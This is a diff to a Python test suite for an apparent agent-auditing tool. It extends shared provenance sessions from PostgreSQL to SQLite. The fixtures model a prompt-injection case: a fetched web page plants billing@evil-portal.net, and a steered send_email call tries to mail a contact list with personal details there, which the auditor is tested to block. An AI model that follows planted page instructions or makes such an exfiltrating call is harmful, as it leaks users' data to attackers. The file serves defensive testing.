@@ -1,5 +1,6 @@
-"""Provenance sessions shared by every server process (issue 25, item 5): PostgreSQL keeps them
-(migration 0029, provenance/shared.py, store/provenance_table.py).
+"""Provenance sessions shared by every process on one store (issue 25, item 5): PostgreSQL keeps
+them by default, SQLite when asked (migration 0029, provenance/shared.py,
+store/provenance_table.py, store/provenance_sqlite.py).
 
 Two `Provenance` objects on one store stand for two processes; then two real `agentaudit serve`
 processes on one database: the untrusted result posted to one, the steered call to the other.
@@ -8,7 +9,9 @@ processes on one database: the untrusted result posted to one, the steered call 
 from __future__ import annotations
 
 import os
+import sqlite3
 from collections.abc import Iterator
+from pathlib import Path
 from typing import Any
 
 import httpx
@@ -19,9 +22,10 @@ from agentaudit.models import EventIn, Policy
 from agentaudit.pipeline import evaluate
 from agentaudit.provenance import REPLY, STEERED, Provenance
 from agentaudit.provenance.shared import ProvenanceTable, SharedMemory, provenance_key
-from agentaudit.service import SESSIONS_ENV, AuditService, shared_sessions
+from agentaudit.service import SESSIONS_ENV, AuditService, sessions_table
 from agentaudit.store import open_store
 from agentaudit.store.postgres import PostgresStore
+from agentaudit.store.sqlite import SQLiteStore
 from tests.support.live_server import run_server
 from tests.test_store import empty_pg, pg_session_url
 
@@ -35,22 +39,41 @@ LEAK = {"to": "billing@evil-portal.net", "subject": "list", "body": "Jane Roe, +
 PLANTED = "billing@evil-portal.net"
 
 
-@pytest.fixture
-def store() -> Iterator[PostgresStore]:
-    url = pg_session_url()
-    empty_pg(url)
-    opened = open_store(url)
-    assert isinstance(opened, PostgresStore)
+Store = PostgresStore | SQLiteStore
+
+
+@pytest.fixture(params=["postgres", "sqlite"])
+def store(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Store]:
+    if request.param == "sqlite":
+        opened = open_store(str(tmp_path / "shared.db"))
+    else:
+        url = pg_session_url()
+        empty_pg(url)
+        opened = open_store(url)
+    assert isinstance(opened, Store)
     try:
         yield opened
     finally:
         opened.close()
 
 
+def raw(store: Store, sql: str) -> list[tuple[Any, ...]]:
+    """A statement on the store's own database, behind the store's back."""
+    if isinstance(store, PostgresStore):
+        with psycopg.connect(store.url, autocommit=True) as conn:
+            cursor = conn.execute(sql)
+            return cursor.fetchall() if cursor.description else []
+    conn = sqlite3.connect(store.path, isolation_level=None)
+    try:
+        return conn.execute(sql).fetchall()
+    finally:
+        conn.close()
+
+
 class Process:
     """One server process's view: its own Provenance (no memory of its own) on the store."""
 
-    def __init__(self, store: PostgresStore, org_id: str) -> None:
+    def __init__(self, store: Store, org_id: str) -> None:
         self.provenance = Provenance(table=store)
         assert self.provenance.shared
         self.org_id = org_id
@@ -67,12 +90,11 @@ class Process:
         return event
 
 
-def table_rows(store: PostgresStore) -> list[tuple[Any, ...]]:
-    with psycopg.connect(store.url) as conn:
-        return conn.execute("SELECT * FROM provenance_values").fetchall()
+def table_rows(store: Store) -> list[tuple[Any, ...]]:
+    return raw(store, "SELECT * FROM provenance_values")
 
 
-def test_a_result_seen_by_one_process_steers_the_call_another_judges(store: PostgresStore) -> None:
+def test_a_result_seen_by_one_process_steers_the_call_another_judges(store: Store) -> None:
     org = store.create_org("acme").id
     one, two = Process(store, org), Process(store, org)
     page = one.run("fetch_webpage.result", {"result": PAGE})
@@ -85,7 +107,7 @@ def test_a_result_seen_by_one_process_steers_the_call_another_judges(store: Post
     assert two.run("send_email", LEAK, session_id="s2").decision == "allow"  # another session
 
 
-def test_the_table_holds_keyed_hashes_never_values(store: PostgresStore) -> None:
+def test_the_table_holds_keyed_hashes_never_values(store: Store) -> None:
     org = store.create_org("acme").id
     page = Process(store, org).run("fetch_webpage.result", {"result": PAGE})
     rows = table_rows(store)
@@ -103,7 +125,7 @@ def test_the_table_holds_keyed_hashes_never_values(store: PostgresStore) -> None
     assert a.hash("e:" + PLANTED) != b.hash("e:" + PLANTED)
 
 
-def test_trust_vouching_replies_and_outside_paths_across_processes(store: PostgresStore) -> None:
+def test_trust_vouching_replies_and_outside_paths_across_processes(store: Store) -> None:
     org = store.create_org("acme").id
     one, two = Process(store, org), Process(store, org)
     one.run("search_web", {"q": "x"}, user_request=f"Mail the list to {PLANTED}", session_id="u")
@@ -128,41 +150,46 @@ def test_trust_vouching_replies_and_outside_paths_across_processes(store: Postgr
     assert one.run("send_email", LEAK, session_id="l").decision == "allow"
 
 
-def test_rows_expire_and_sessions_are_bounded(store: PostgresStore) -> None:
+def test_rows_expire_and_sessions_are_bounded(store: Store) -> None:
     org = store.create_org("acme").id
-    policy = Policy(provenance={"session_ttl_seconds": 60, "max_values_per_session": 16})
+    # the page plants 22 values (the address, its domain, the IBAN's forms…): all are kept
+    policy = Policy(provenance={"session_ttl_seconds": 60, "max_values_per_session": 32})
     one = Process(store, org)
     one.run("fetch_webpage.result", {"result": PAGE}, policy)
     assert one.run("send_email", LEAK, policy).decision == "block"
-    with psycopg.connect(store.url, autocommit=True) as conn:  # read 61 s ago
-        conn.execute("UPDATE provenance_values SET at = at - 61, expires_at = expires_at - 61")
+    raw(
+        store, "UPDATE provenance_values SET at = at - 61, expires_at = expires_at - 61"
+    )  # 61 s ago
     assert one.run("send_email", LEAK, policy).decision == "allow"
     one.run("fetch_webpage.result", {"result": PAGE}, policy)
     many = " ".join(f"user{i}@other.example.com" for i in range(40))
     one.run("read_email.result", {"result": many}, policy)
     planted = [r for r in table_rows(store) if r[3] == 0]
-    assert len(planted) == 16  # the newest 16 of the session's planted values
+    assert len(planted) == 32  # the newest 32 of the session's planted values
     assert one.run("send_email", LEAK, policy).decision == "allow"  # pushed out
     # expired rows are swept by a writer (at most once a minute per process)
-    with psycopg.connect(store.url, autocommit=True) as conn:
-        conn.execute("UPDATE provenance_values SET expires_at = 0")
+    raw(store, "UPDATE provenance_values SET expires_at = 0")
     store._provenance_swept = 0.0
     one.run("fetch_webpage.result", {"result": "see https://fresh.example.org/x"}, policy)
     assert all(r[5] > 0 for r in table_rows(store))
 
 
-def test_the_service_shares_sessions_on_postgres_only(
-    store: PostgresStore, tmp_path: Any, monkeypatch: pytest.MonkeyPatch
+def test_where_the_service_keeps_sessions(
+    store: Store, tmp_path: Any, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    assert isinstance(store, ProvenanceTable) and shared_sessions(store) is store
-    assert AuditService(store).provenance.shared
-    sqlite = open_store(str(tmp_path / "a.db"))
-    try:
-        assert shared_sessions(sqlite) is None and not AuditService(sqlite).provenance.shared
-    finally:
-        sqlite.close()
+    """PostgreSQL in the store, SQLite in the process (faster) unless asked: the hook asks,
+    $AGENTAUDIT_PROVENANCE_SESSIONS asks for every process."""
+    assert isinstance(store, ProvenanceTable)
+    on_postgres = isinstance(store, PostgresStore)
+    assert (sessions_table(store) is store) is on_postgres
+    assert AuditService(store).provenance.shared is on_postgres
+    assert AuditService(store, shared_sessions=True).provenance.shared
+    assert not AuditService(store, shared_sessions=False).provenance.shared
     monkeypatch.setenv(SESSIONS_ENV, "process")
-    assert shared_sessions(store) is None
+    assert sessions_table(store) is None
+    monkeypatch.setenv(SESSIONS_ENV, "store")
+    assert sessions_table(store) is store
+    assert not AuditService(store, shared_sessions=False).provenance.shared  # the caller wins
 
 
 def test_two_servers_on_one_database_share_sessions() -> None:
